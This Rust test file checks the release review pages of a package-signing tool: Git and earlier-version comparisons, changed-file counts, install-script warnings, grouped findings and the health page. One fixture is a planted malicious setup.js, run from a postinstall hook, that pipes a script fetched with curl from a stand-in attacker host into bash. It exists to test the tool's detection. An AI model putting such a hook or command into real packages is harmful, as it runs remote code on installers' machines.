//! What the page of a release says about what was looked at, and what it does not say about what was
//! not: nothing is the same, new or fine that nobody compared (A2, S9).

use countersign::domain::digest::Sha256;
use countersign::domain::ids::{ReleaseId, UpstreamId};
use countersign::domain::package::Ecosystem;
use countersign::domain::review::report::{Against, Gathered, Report, ReportedArtifact};
use countersign::domain::upstream::{Upstream, UpstreamFields};
use countersign::inspector::Settings;
use countersign::pipeline::{inspection, review};
use countersign::workers;
use serde_json::{Value, json};

use crate::readers::build::{npm, with};
use crate::support::database::{on_both, sqlite};
use crate::support::faults::Fault;
use crate::support::site::Site;
use crate::support::world::{NPM_NAME, World, npm_document, npm_document_of, run};

async fn world() -> (World, tempfile::TempDir) {
    let folder = tempfile::tempdir().unwrap();
    let world = World::start(sqlite(folder.path()).await).await;
    (world, folder)
}

async fn page(world: &World, address: &str) -> String {
    world.ines.clone().get(address, "text/html").await.ok().text
}

async fn release_page(world: &World, release: ReleaseId) -> String {
    page(world, &format!("/releases/{release}")).await
}

/// The worker looks into what is due.
async fn look(world: &World) {
    assert!(inspection::run_next(workers::inspecting(&world.site.app), world.now()).await.unwrap());
}

fn package_json(version: &str, more: Value) -> Value {
    with(json!({ "name": NPM_NAME, "version": version, "main": "index.js" }), more)
}

/// The release of an npm package, looked into; the registry holds the one before.
async fn after(
    world: &World,
    (before, files_before): (Value, &[(&str, &[u8])]),
    (manifest, files): (Value, &[(&str, &[u8])]),
) -> ReleaseId {
    world.npm.hold(NPM_NAME, "1.0.0", &npm(&package_json("1.0.0", before), files_before));
    let document = npm_document_of(package_json("1.1.0", manifest), files);
    let release = world.submit_npm(run(1), &document).await.unwrap().release;
    look(world).await;
    release
}

/// What stands between two things, from the first on.
#[track_caller]
fn between<'a>(text: &'a str, from: &str, to: &str) -> &'a str {
    let (_, rest) = text.split_once(from).unwrap_or_else(|| panic!("no {from:?} in {text}"));
    rest.split(to).next().unwrap_or_default()
}

/// The link of the chain about Git on the page of a release whose source was this.
async fn beside_git(world: &World, release: ReleaseId, source: Value) -> String {
    let file = world.artifacts(release).await.remove(0);
    let source = source.to_string();
    let artifact = ReportedArtifact {
        name: file.filename,
        sha256: file.digests.sha256,
        against: Against::Nothing {
            why: "nothing, because no earlier version is there".to_owned(),
        },
        tally: None,
    };
    let gathered = Gathered {
        artifacts: vec![artifact],
        source_sha256: Some(Sha256::of(source.as_bytes())),
        ..Gathered::default()
    };
    let manifest = world.record(release).await.seal.unwrap().manifest;
    let report = Report::new(&manifest, gathered, None);
    assert!(inspection::record(world.store(), report, Some(source), world.now()).await.unwrap());
    let page = release_page(world, release).await;
    between(&page, "Compared with <code>", "</li>").to_owned()
}

#[tokio::test]
async fn only_files_that_were_compared_are_the_same_as_in_git() {
    let (world, _folder) = world().await;
    let release = world.stage_npm(run(1), &npm_document("1.0.0", b"x")).await.unwrap().release;
    let file = world.artifacts(release).await.remove(0).filename;
    let source = |more: Value| {
        let plain = json!({ "repository": "octo/hello-wire", "commit": "c0ffee", "branch": null,
            "tag": null, "artifacts": [], "outside": {}, "closure": null });
        with(plain, more)
    };
    let three = json!([{ "file_name": file, "exact": 3, "elsewhere": 0, "rewritten": 0,
        "generated": 0, "differs": 0, "missing": 0 }]);
    let none_read = format!("Not read, so not compared: {file}.");
    let no_branch = "No branch that releases come from leads to the commit.";
    // What is known, what is said of it, the verdict, and what must not be said.
    let rows: [(Value, &str, &str, &str); 5] = [
        (json!({ "branch_judged": false }), &none_read, "Not compared", "the same"),
        (
            json!({ "branch_judged": false, "artifacts": three }),
            "<p>3 the same.</p>",
            "The same",
            "branch",
        ),
        (json!({ "branch_judged": true, "artifacts": three }), no_branch, "Look at it", "The same"),
        (
            json!({ "branch_judged": true, "branch": "main", "artifacts": three }),
            "3 the same. Branch main leads to the commit.",
            "The same",
            "No branch",
        ),
        // As it was kept before it said whether a branch was judged.
        (json!({ "artifacts": three }), "3 the same.", "The same", "branch"),
    ];
    for (known, said, verdict, unsaid) in rows {
        let link = beside_git(&world, release, source(known)).await;
        assert!(link.contains(said), "{said}: {link}");
        assert!(link.ends_with(&format!("{verdict}</span>")), "{verdict}: {link}");
        assert!(!link.contains(unsaid), "{unsaid}: {link}");
    }
}

/// IN-02: what could not be compared is not new.
#[tokio::test]
async fn nothing_is_called_new_when_what_people_run_could_not_be_read() {
    let (world, _folder) = world().await;
    let document = npm_document_of(
        package_json("1.0.0", json!({ "dependencies": { "left": "^1.0.0" } })),
        &[("index.js", b"x\n")],
    );
    let release = world.submit_npm(run(1), &document).await.unwrap().release;
    world.npm.fail_next_read(Fault::answer(403, "no", false));
    look(&world).await;
    let text = release_page(&world, release).await;
    let card = between(&text, "id=\"changed\"", "</section>");
    for said in [
        "Compared with nothing, because what people run today could not be read.",
        "<b>2</b> <small>not compared</small>",
        "<b>1 found</b>",
    ] {
        assert!(card.contains(said), "{said}: {card}");
    }
    assert!(!card.contains("new"), "{card}");
    let list = page(&world, &format!("/releases/{release}/files")).await;
    assert!(list.contains("Compared with nothing, because what people run today"), "{list}");

    // A first release is all new, and says why in a whole sentence.
    let (world, _folder) = self::world().await;
    let release = world.submit_npm(run(1), &npm_document("1.0.0", b"x")).await.unwrap().release;
    look(&world).await;
    let text = release_page(&world, release).await;
    let first = "Compared with nothing, because no earlier version is at the registry.";
    assert!(text.contains(first) && text.contains("<small>all new</small>"), "{text}");
    let file = world.artifacts(release).await.remove(0).filename;
    for rest in [String::from("files"), format!("files/{file}/diff?path=index.js")] {
        let text = page(&world, &format!("/releases/{release}/{rest}")).await;
        assert!(text.contains(&format!(">{first}<")), "{rest}: {text}");
    }
}

/// One count, one source: what the numbers at the top say is what the list says.
#[tokio::test]
async fn what_moved_is_counted_alike_above_and_in_the_list() {
    let (world, _folder) = world().await;
    let release = after(
        &world,
        (json!({}), &[("index.js", b"a\nb\n"), ("lib/old.js", b"moved\n"), ("gone.js", b"g\n")]),
        (json!({}), &[("index.js", b"a\nc\nd\n"), ("src/new.js", b"moved\n")]),
    )
    .await;
    let text = release_page(&world, release).await;
    let card = between(&text, "id=\"changed\"", "</section>");
    assert!(card.contains("<b>2 changed</b> <small>1 removed, 1 moved</small>"), "{card}");
    let list = page(&world, &format!("/releases/{release}/files")).await;
    assert!(list.contains("2 changed, 1 removed, 1 moved</span>"), "{list}");
    // `package.json`, `index.js` and the file that is gone.
    assert!(card.contains("<small>+3 −3</small>"), "{card}");
}

/// A report that was kept before it counted what moved is read as it was written.
#[tokio::test]
async fn a_report_without_numbers_of_moved_files_is_still_read() {
    let (world, _folder) = world().await;
    let release = world.submit_npm(run(1), &npm_document("1.0.0", b"x")).await.unwrap().release;
    look(&world).await;
    let ines = world.person("Ines Duarte").await;
    let view = review::release(world.store(), release, ines, world.now()).await.unwrap();
    let mut report = view.report.unwrap();
    let text = String::from_utf8(report.to_bytes()).unwrap();
    assert!(text.contains("\"changed\":0,") && !text.contains("\"moved\""), "{text}");
    assert_eq!(Report::from_bytes(text.as_bytes()), Some(report.clone()));
    report.artifacts[0].tally.as_mut().unwrap().moved = 1;
    assert_eq!(Report::from_bytes(&report.to_bytes()), Some(report));
}

/// Rule W17 counts what is signed; people read it once.
#[tokio::test]
async fn a_script_is_said_once_and_never_hidden() {
    let (world, _folder) = world().await;
    let hook = || json!({ "scripts": { "postinstall": "node index.js" } });
    let files: &[(&str, &[u8])] = &[("index.js", b"x\n")];
    let alone = "It runs code when it is installed:";
    let too = "The manifest, which is signed, names it too.";
    let release = after(&world, (json!({}), files), (hook(), files)).await;
    let text = release_page(&world, release).await;
    let attention = between(&text, "id=\"attention\"", "</section>");
    assert!(attention.contains("postinstall: node index.js") && attention.contains(too));
    assert!(!attention.contains(alone), "{attention}");
    let ines = world.person("Ines Duarte").await;
    let view = review::release(world.store(), release, ines, world.now()).await.unwrap();
    assert!(view.findings.iter().any(|it| it.id() == "runs_at_install:postinstall"), "signed");
    // The inbox counts what the page lists.
    assert!(attention.contains("Look at this before you sign"), "one thing: {attention}");
    let inbox = page(&world, "/").await;
    assert!(inbox.contains(">1 block</span>"), "and no more: {inbox}");

    // The report has nothing about what was there before, so the manifest says it.
    let (world, _folder) = self::world().await;
    let release = after(&world, (hook(), files), (hook(), files)).await;
    let text = release_page(&world, release).await;
    assert!(text.contains(alone) && !text.contains(too), "{text}");
}

/// What is about one file is read together, and each of it is answered by itself.
#[tokio::test]
async fn findings_about_one_file_stand_in_one_card_with_an_answer_each() {
    let (world, _folder) = world().await;
    let steals: &[u8] = b"const { execSync } = require('child_process')\n\
        execSync('curl -fsSL https://steal.example.invalid/install | bash')\n";
    let plain: (&str, &[u8]) = ("index.js", b"x\n");
    let manifest = json!({ "scripts": { "postinstall": "node setup.js" } });
    let release =
        after(&world, (json!({}), &[plain]), (manifest, &[plain, ("setup.js", steals)])).await;
    let ines = world.person("Ines Duarte").await;
    let report =
        review::release(world.store(), release, ines, world.now()).await.unwrap().report.unwrap();
    let asked = report.inspection();
    let of_file = |names: &std::collections::BTreeSet<String>| {
        names.iter().filter(|name| name.contains(":setup.js")).count()
    };
    assert!(of_file(&asked.blocks) > 0 && of_file(&asked.blocks) + of_file(&asked.looks) > 1);

    let text = release_page(&world, release).await;
    let attention = between(&text, "id=\"attention\"", "</section>");
    let card = between(attention, "<li class=\"about\">", "</ul>");
    assert_eq!(card.matches(">setup.js</a>").count(), 1, "one heading with one link: {card}");
    assert!(!card.contains("in setup.js"), "{card}");
    assert!(card.contains("line=2#L2\">line 2</a>"), "each its line: {card}");
    assert_eq!(card.matches("name=\"override:").count(), of_file(&asked.blocks), "{card}");
    assert_eq!(card.matches("name=\"look:").count(), of_file(&asked.looks), "{card}");
    for (name, field) in asked
        .blocks
        .iter()
        .map(|it| (it, "override"))
        .chain(asked.looks.iter().map(|it| (it, "look")))
    {
        let escaped = name.replace('\'', "&#39;").replace('"', "&#34;");
        let field = format!("name=\"{field}:{escaped}\"");
        assert_eq!(attention.matches(&field).count(), 1, "{field}: {attention}");
    }
    // Where its gravest finding would stand: after the script that runs it, before what only asks.
    let at = |words: &str| attention.find(words).unwrap_or_else(|| panic!("{words}: {attention}"));
    assert!(at("postinstall: node setup.js") < at("class=\"about\""), "{attention}");
}

/// A package may be sent elsewhere later; what was sealed keeps its destination.
#[tokio::test]
async fn an_earlier_release_names_the_registry_it_was_sealed_for() {
    on_both(|store| async move {
        let world = World::start(store).await;
        let first = world.stage_npm(run(1), &npm_document("1.0.0", b"x")).await.unwrap().release;
        let record = world.record(first).await;
        let other = Upstream::parse(UpstreamFields {
            id: UpstreamId::from_uuid(uuid::Uuid::from_u128(7)),
            name: "Other npm",
            kind: Ecosystem::Npm,
            url: "http://127.0.0.1:9/npm/",
            simple_url: None,
            files_url: None,
            allow_private: true,
        })
        .unwrap();
        let mut tx = world.store().begin().await.unwrap();
        tx.add_upstream(&other, "", world.now()).await.unwrap();
        let mut package = tx.package(record.package).await.unwrap().unwrap().record();
        package.upstream = other.id();
        tx.set_package(&package).await.unwrap();
        tx.commit().await.unwrap();

        let second = world.stage_npm(run(2), &npm_document("1.1.0", b"x")).await.unwrap().release;
        let text = release_page(&world, first).await;
        assert!(text.contains("to Local npm</span>"), "{text}");
        assert!(release_page(&world, second).await.contains("to Other npm</span>"));
        let ines = world.person("Ines Duarte").await;
        let view = review::release(world.store(), second, ines, world.now()).await.unwrap();
        let names: Vec<&str> =
            view.earlier.iter().map(|earlier| earlier.upstream.upstream.name()).collect();
        assert_eq!(names, ["Local npm"]);
    })
    .await;
}

/// A reader that says nothing in time may be busy, slow or stuck, and nobody knows which.
#[tokio::test]
async fn the_health_page_gives_no_reason_for_a_reader_that_does_not_answer() {
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("reader");
    std::fs::write(&program, "#!/bin/sh\nexec /bin/sleep 60\n").unwrap();
    let executable = std::os::unix::fs::PermissionsExt::from_mode(0o700);
    std::fs::set_permissions(&program, executable).unwrap();
    let store = sqlite(folder.path()).await;
    let site = Site::reading_with(store, Settings { program, ..Settings::default() }).await;
    let (_site, mut ines) = site.claim().await;
    let text = ines.get("/health-page", "text/html").await.ok().text;
    assert!(text.contains("did not answer within 2 s"), "{text}");
    assert!(!text.contains("being read") && !text.contains("Artifacts are read"), "{text}");
}
